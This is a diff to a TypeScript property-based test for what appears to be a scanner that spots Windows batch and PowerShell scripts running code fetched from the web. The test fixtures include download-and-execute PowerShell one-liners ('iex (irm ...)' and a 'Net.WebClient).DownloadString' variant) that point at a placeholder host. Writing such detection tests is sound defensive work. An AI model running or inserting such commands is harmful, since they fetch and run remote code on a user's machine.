@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import fc from 'fast-check';
 import { batchAsPosixShell } from '../../src/readers/windows/batch';
 import { powershellAsPosixShell } from '../../src/readers/windows/powershell';
+import { runFromWeb } from '../../src/readers/windows/run-from-web';
 import { sampleSecret } from '../harness/secret-samples';
 import { fixedText, markedText, scanned } from '../harness/scanned';
 
@@ -93,6 +94,25 @@ describe('scripts of Windows', () => {
         read(part.repeat(200_000 / part.length));
         assert.ok(performance.now() - start < 2000, JSON.stringify(part));
       }
+  });
+
+  it('keep the places of what they run from the web, and nothing else', () => {
+    const piece = fc.constantFrom(
+      'iex (irm https://a.example/x.ps1)',
+      'iex ((New-Object Net.WebClient).DownloadString("https://a.example/x.ps1"))',
+      ...['iex', 'irm', ' ', '(', ')', '|', '`', '"', '$', '{', '\n', '\r\n', '#', '^', '%a', 'DownloadString(', '🙂'],
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
+        const text = pieces.join('');
+        for (const read of [batchAsPosixShell, powershellAsPosixShell]) {
+          const [command] = runFromWeb(text, read)?.commands ?? [];
+          assert.equal(command?.body.length ?? text.length, text.length);
+        }
+      }),
+    );
+    const many = 'iex (((irm '.repeat(20_000);
+    assert.equal(runFromWeb(many, powershellAsPosixShell)?.commands[0]?.body.length, many.length);
   });
 
   it('keep their places, whatever they are', () => {
